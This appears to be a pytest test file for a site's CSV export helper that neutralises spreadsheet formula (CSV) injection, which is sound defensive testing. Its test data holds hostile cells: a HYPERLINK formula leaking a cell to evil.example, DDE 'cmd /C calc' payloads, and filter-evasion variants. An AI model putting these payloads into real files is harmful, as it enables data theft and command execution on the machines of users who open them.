"""CSV cells no spreadsheet runs as formulas (OWASP "CSV injection"), numbers left as numbers."""

import csv
import io

import pytest

from baloo_site.spreadsheet import csv_cell, csv_writer


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # full-width equals sign
        "\ufe661+1",  # small equals sign
        " =1+1",  # spreadsheets skip leading blanks and control characters before a formula
        "\n=1+1",
        "\u00a0=1+1",
        "\u3000+1+1",
        "\x00=1+1",
        "-",
        "-1+2",
        "+",
        "=",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_quote_in_front(typed):
    assert csv_cell(typed) == "'" + typed


@pytest.mark.parametrize("number", ["-3", "+1", "-1.5", "-.5", "+1.5e3", "-2E-7", "-0"])
def test_numbers_written_as_text_stay_numbers(number):
    # A negative number is read as a value, never run: a quote would turn a column of counts into text.
    assert csv_cell(number) == number


@pytest.mark.parametrize("value", [-3, 2.5, 0, None, True, "Ann", "ann@example.org", "2024-05-01T12:00:00+00:00", "a=b", "x-1", ""])
def test_other_values_are_written_as_they_are(value):
    assert csv_cell(value) is value


def test_the_writer_neutralises_every_cell_and_keeps_csv_quoting():
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(["name", "count"])
    writer.writerows([['=HYPERLINK("x","y")', -3], ["Ann, \"the\" first", 2]])

    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["name", "count"],
        ['\'=HYPERLINK("x","y")', "-3"],
        ['Ann, "the" first', "2"],
    ]
